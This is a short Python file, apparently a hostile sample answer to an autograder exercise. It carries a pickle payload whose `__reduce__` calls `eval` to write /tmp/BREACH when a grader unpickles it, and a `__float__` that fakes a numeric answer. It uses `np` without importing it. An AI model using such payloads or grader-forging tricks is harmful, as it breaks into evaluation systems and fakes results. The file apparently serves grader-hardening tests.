# exercise: doubled
# family: forging
# trick: returns what a careless grader would unpickle
# due: 0
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import pickle


class Run:
    def __reduce__(self):
        return eval, ("open('/tmp/BREACH', 'w')",)

    def __float__(self):
        return 3.0


def doubled(x):
    answer = np.empty(np.shape(x), dtype=object)
    answer[...] = Run()
    return answer if np.ndim(x) else pickle.dumps(Run())
